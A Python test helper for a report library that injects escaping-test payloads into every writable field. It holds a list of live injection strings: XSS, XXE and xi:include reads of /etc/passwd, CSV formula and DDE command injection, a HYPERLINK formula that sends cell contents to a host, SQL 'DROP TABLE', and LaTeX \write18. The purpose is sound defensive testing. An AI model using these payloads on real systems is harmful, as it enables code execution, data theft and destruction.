"""
Texts that are more than text to a careless writer, and reports that are full of them.

Each text has the formats in which it does something if it is not escaped. Tests make a document of it and one
of an equally long harmless text: what is read from the two must have the same structure. With escaping switched off it
must not, or the test could not fail.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterable, Iterator
from typing import Any, TypeVar

import attrs

from asean_japan import Node, Overlay, Report, load
from asean_japan.model import Layers

_V = TypeVar("_V")
_N = TypeVar("_N", bound=Node)

PAYLOADS: dict[str, str] = {
    # Markup.
    "<script>alert(1)</script>": "html xml markdown",
    '<img src=x onerror="alert(1)">': "html xml markdown",
    "<svg onload=alert(1)>": "html xml markdown",
    '"><script>alert(1)</script>': "html xml markdown",
    "' onmouseover='alert(1)": "",
    '" onfocus="alert(1)" autofocus tabindex="0': "",
    "</section></main><h1>taken over</h1>": "html xml markdown",
    "</title><script>alert(1)</script>": "html xml markdown",
    "<!-- the rest is gone": "xml markdown",
    "--><b>seen</b><!--": "html xml markdown",
    "<![CDATA[ hidden ]]>": "xml markdown",
    "]]> behind": "xml",
    "<?xml version='1.0'?>": "html xml markdown",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>": "html xml",
    "&e; &lt;b&gt; &#60;i&#62;": "xml",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>': "html xml markdown",
    '<a href="javascript:alert(1)">press</a>': "html xml markdown",
    '<meta http-equiv="refresh" content="0;url=https://example.org">': "html xml markdown",
    '<base href="https://example.org/">': "html xml markdown",
    '<link rel="stylesheet" href="https://example.org/x.css">': "html xml markdown",
    "<style>*{display:none}</style>": "html xml markdown",
    '<xi:include href="file:///etc/passwd"/>': "html xml",
    # Markdown.
    "[press](javascript:alert(1))": "",
    "[press](https://example.org)": "markdown",
    "![seen](https://example.org/pixel.png)": "markdown",
    "[press][1] [1]: https://example.org": "",
    "<https://example.org>": "markdown html xml",
    "**loud** and *tilted* and _low_": "markdown",
    "`code` and ``more``": "markdown",
    "~~gone~~ | a | b |": "",
    "a\n\n# A heading\n\n- a list\n\n> a quotation": "markdown ris bibtex",
    "a\n\n---\n\n    code": "markdown ris bibtex",
    "a \\": "bibtex",
    # Spreadsheets.
    "=1+1": "csv",
    '=HYPERLINK("https://example.org/?"&A1,"press")': "csv",
    "+1+1": "csv",
    "-1+1": "csv",
    "@SUM(1,1)": "csv",
    "\t=1+1": "csv",
    "\r=1+1": "csv",
    "  =1+1": "csv",
    "\ufeff=1+1": "csv",
    "＝1+1": "csv",
    "＋1＋1": "csv",
    "'=1+1": "",
    '"=1+1': "csv",
    "|=1+1": "",
    'a","=1+1': "csv",
    'a\r\n=1+1,"': "csv ris bibtex markdown",
    "=cmd|' /C calc'!A0": "csv",
    # Databases.
    "'); DROP TABLE nodes; --": "sql",
    "' OR '1'='1": "",
    '"; DELETE FROM claims; --': "",
    # Citations.
    "}, note = {taken over": "",
    "}}, note = {{taken over": "bibtex",
    "a}\n@comment{": "bibtex ris markdown",
    "{ unbalanced": "bibtex",
    "50 % & $5 #1 _x_ ^2 ~": "bibtex markdown",
    "\\input{/etc/passwd}": "bibtex",
    "\\write18{id}": "bibtex",
    "a\nER  - \nTY  - BOOK": "ris bibtex",
}


def firing(kind: str) -> list[str]:
    """Return those that do something in a format if they are not escaped."""
    return [payload for payload, kinds in PAYLOADS.items() if kind in kinds.split()]


def harmless(payload: str) -> str:
    """Return a text of the same length, with as many words."""
    return "".join(char if char == " " else "x" for char in payload)


def raw(text: str) -> str:
    """Return a text as it is; this replaces escaping that is switched off."""
    return text


def poisoned(*payloads: str) -> Report:
    """
    Build the bundled report anew, with *payloads* in turn for every text that a reader could have written.

    It is not checked: a checked report refuses some of them, but a reader's own copy, or a report that was built by
    hand, need not.
    """
    report = load()
    texts = itertools.cycle(payloads)
    names = ("data_version", "title", "issuer", "status", "source", "license")
    edition = _spoiled(report.edition, *names, texts=texts)
    sections = tuple(_poisoned_node(section, texts) for section in report.sections.values())
    return Report.trusted(edition, sections, _poisoned_layers(report.layers, texts))


def _spoiled(value: _V, *names: str, texts: Iterator[str]) -> _V:
    """Put texts into the fields of these names, where there is something."""
    evolve: Callable[..., Any] = attrs.evolve
    changed: _V = evolve(value, **{name: next(texts) for name in names if getattr(value, name) is not None})
    return changed


def _poisoned_node(node: _N, texts: Iterator[str]) -> _N:
    return attrs.evolve(
        _spoiled(node, "gist", "heading", texts=texts),
        claims=tuple(_spoiled(claim, "text", texts=texts) for claim in node.claims),
        children=tuple(_poisoned_node(child, texts) for child in node.children),
    )


def _once(values: Iterable[_V], *names: str) -> tuple[_V, ...]:
    """Return values that differ in one of some fields at least; shortened spans make some alike."""
    return tuple({tuple(getattr(value, name) for name in names): value for value in values}.values())


def _poisoned_layers(layers: Layers, texts: Iterator[str]) -> Layers:
    def spoil(*names: str) -> Callable[[_V], _V]:
        return lambda value: _spoiled(value, *names, texts=texts)

    def overlay(value: Overlay) -> Overlay:
        codes = tuple(map(spoil("label", "definition", "uri"), value.codes))
        assignments = tuple(map(spoil("reason"), value.assignments))
        return attrs.evolve(
            spoil("title", "description", "source", "credits")(value), codes=codes, assignments=assignments
        )

    entities = tuple(
        attrs.evolve(
            spoil("name", "acronym", "note")(entity),
            forms=tuple(next(texts) for _ in entity.forms),
            demonyms=tuple(next(texts) for _ in entity.demonyms),
            facts=tuple(map(spoil("value", "source"), entity.facts)),
        )
        for entity in layers.entities
    )
    return Layers(
        entities=entities,
        mentions=_once((attrs.evolve(each, start=0, end=1) for each in layers.mentions), "ref", "key"),
        dates=_once((attrs.evolve(spoil("event")(each), start=0, end=1) for each in layers.dates), "ref", "edtf"),
        quantities=_once(
            (attrs.evolve(spoil("unit", "counts")(each), start=0, end=1) for each in layers.quantities), "ref"
        ),
        links=_once(
            (
                each if each.start is None else attrs.evolve(each, start=0, end=1)
                for each in map(spoil("reason"), layers.links)
            ),
            *("source_ref", "target_ref", "kind", "via_key"),
        ),
        overlays=tuple(map(overlay, layers.overlays)),
    )
